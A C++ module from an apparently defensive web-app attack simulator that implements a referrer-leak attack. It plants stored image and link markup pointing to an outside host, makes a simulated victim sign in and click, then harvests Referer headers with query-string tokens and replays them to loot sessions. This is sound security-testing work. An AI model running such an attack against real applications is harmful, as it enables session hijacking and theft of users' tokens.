// referrer-leak: has pictures and links of his own in what the victim reads, and looks at the
// addresses they were asked for from. A token in an address is then his (Referrer Policy; OWASP
// Session Management Cheat Sheet: no session in URLs).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class ReferrerLeak final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const picture = address_on(*evil, "picture.png");
        evil->answer(
            evil->folder() + "picture.png",
            {.status = 200, .headers = {{"content-type", "image/png"}}, .body = "picture"});
        StoredText text(target);
        // As any comment with a picture has it: the page's own policy is the question.
        text.leave("<img src=" + in_quotes(picture) + "><a href=" + in_quotes(picture) +
                   ">Read more</a>");
        if (!victim_signs_in(target)) return;
        for (std::string const& routine : routines_option(target, option::kDoes)) {
            (void)target.victim()->does(routine);
            (void)target.victim()->clicks("Read more");
        }
        use_addresses(target);
    }

    static void use_addresses(Target& target) {
        std::vector<std::string> addresses;
        for (OwnHost* host : target.hosts())
            for (http::Request const& request : host->received())
                if (auto const from = request.headers.get("referer"))
                    if (from->find('?') != std::string::npos) addresses.push_back(*from);
        target.note(std::to_string(addresses.size()) +
                    " requests told the address they came from.");
        std::string const origin = app_origin(target);
        for (std::string const& each : addresses)
            if (each.starts_with(origin))
                target.send(
                    {.target = each.substr(origin.size()), .headers = {{"cookie", "none=1"}}});
        try_loot(target, addresses);
    }
};

}  // namespace

std::unique_ptr<Agent> make_referrer_leak() { return std::make_unique<ReferrerLeak>(); }

}  // namespace parapet::attack
